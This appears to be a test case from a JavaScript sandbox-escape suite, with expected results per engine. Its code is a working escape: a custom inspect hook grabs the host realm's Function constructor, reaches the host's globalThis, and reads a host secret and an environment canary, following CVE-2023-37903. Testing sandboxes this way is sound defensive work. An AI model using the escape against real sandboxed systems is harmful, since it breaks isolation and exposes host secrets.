/*---
id: proto-inspect-custom
title: util.inspect.custom receives the outer inspect function
category: prototype
goal: Get the embedder's own util.inspect (and its options object) by having the console format a guest object, then leak the global and env canaries of the embedder's realm.
technique: Node's inspect calls obj[Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) with its own functions; inspect.constructor is the Function constructor of the realm doing the formatting.
references: CVE-2023-37903, https://github.com/patriksimek/vm2/issues/268, https://nodejs.org/api/util.html#utilinspectcustom
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
let leaked = 'custom inspect was never called (arguments were copied as text?)';
const bait = {
  [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
    try {
      const F = (inspect || options.stylize).constructor;
      const g = F('return globalThis')();
      leaked = {
        foreign: F !== Function,
        hostSecret: g.__hostSecret,
        env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
      };
    } catch (e) {
      leaked = String(e).slice(0, 120);
    }
    return '[bait]';
  },
};
console.log('formatting', bait); // the console formats its arguments where it was created
console.log('custom inspect reached:', JSON.stringify(leaked));
leaked;
